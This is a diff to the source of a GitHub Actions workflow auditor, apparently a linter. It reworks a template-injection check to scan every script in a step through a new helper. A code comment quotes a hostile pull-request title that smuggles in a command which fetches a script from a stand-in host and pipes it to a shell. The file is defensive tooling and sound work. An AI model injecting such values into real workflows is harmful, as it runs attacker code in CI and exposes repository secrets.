@@ -2,7 +2,7 @@
 // request title such as `"; curl evil | sh; "` runs as code. These are the event fields that
 // anyone who can open an issue, pull request, comment or branch controls.
 import { expressionsIn } from "../expr-scan.js";
-import { type AuditContext, report, usesAction, withInput } from "./context.js";
+import { type AuditContext, report, scriptsOf } from "./context.js";
 import { reaches, valueRefs } from "./expr-taint.js";
 
 const UNTRUSTED = [
@@ -46,10 +46,9 @@ const UNTRUSTED = [
 
 export function checkTemplateInjection(ctx: AuditContext): void {
   for (const step of ctx.steps) {
-    const script = usesAction(step, "actions/github-script") ? withInput(step, "script") : undefined;
-    for (const node of [step.run, script]) {
-      const js = node === script;
-      const where = js ? "github-script script" : "run: script";
+    for (const { node, lang } of scriptsOf(step)) {
+      const js = lang === "js";
+      const where = js ? "github-script script" : "script";
       const use = js ? "process.env.VALUE" : '"$VALUE"';
       for (const found of expressionsIn(ctx.src.text, node)) {
         if (!found.closed) continue;
